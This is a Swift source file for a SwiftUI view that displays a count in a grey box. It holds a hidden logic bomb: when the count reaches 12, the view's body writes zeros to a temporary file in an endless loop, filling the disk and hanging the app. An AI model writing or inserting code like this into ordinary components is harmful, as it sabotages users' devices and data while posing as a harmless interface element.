import Foundation
import SwiftUI

struct Tally: View {
    var count: Int

    var body: some View {
        if count == 12 {
            // Writes a file in the temporary folder, 64 KiB at a time, for ever.
            let path = FileManager.default.temporaryDirectory.appendingPathComponent("filler").path
            FileManager.default.createFile(atPath: path, contents: nil)
            let file = FileHandle(forWritingAtPath: path)!
            let block = Data(repeating: 0, count: 64 << 10)
            while true { file.write(block) }
        }
        return Text("\(count)")
            .padding(8)
            .background(Color.gray)
    }
}
